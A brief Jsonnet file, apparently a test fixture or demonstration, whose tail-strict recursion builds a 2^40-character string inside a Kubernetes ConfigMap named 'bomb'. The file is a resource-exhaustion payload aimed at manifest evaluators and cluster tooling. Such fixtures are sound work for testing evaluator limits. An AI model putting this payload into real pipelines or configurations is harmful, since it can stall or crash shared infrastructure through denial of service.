// A string doubled 40 times by a tailstrict recursion: 2^40 characters.
local double(s, n) = if n == 0 then s else double(s + s, n - 1) tailstrict;
{ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'bomb' }, data: { s: double('x', 40) } }
